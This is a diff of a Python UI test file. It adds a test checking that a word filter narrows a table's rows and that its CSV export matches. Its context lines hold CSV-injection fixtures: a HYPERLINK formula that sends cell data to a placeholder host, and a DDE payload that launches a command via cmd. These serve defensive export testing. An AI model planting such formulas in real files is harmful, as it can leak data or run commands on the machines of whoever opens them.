@@ -120,6 +120,20 @@ def test_csv_is_the_table_as_it_is_shown(visit: Visit) -> None:
     assert not [row for row in rows if row[0].startswith("ddp")]
 
 
+def test_words_filter_rows_and_csv_follows(visit: Visit) -> None:
+    unfold(visit, "Case states")
+    field = visit.table(STATES).get_by_role("searchbox", name="Show only rows with these words")
+    before = visit.table(STATES).locator("tbody tr").count()
+    field.fill("TINY ddp")
+    shown = visit.table(STATES).locator("tbody tr:visible").all_text_contents()
+    assert 0 < len(shown) < before
+    assert all("tiny" in row and "ddp" in row for row in shown)
+    assert visit.table(STATES).get_by_role("status").inner_text() == f"{len(shown)} of {before} rows"
+    assert len(saved(visit, STATES)[1].splitlines()) == 1 + len(shown)
+    field.fill("")
+    assert visit.table(STATES).locator("tbody tr:visible").count() == before
+
+
 FORMULA = '=HYPERLINK("http://example.org?"&A1)'
 PIPE = "-1+cmd|' /C calc'!A0"
 QUOTED = 'a "quoted", name|of several'
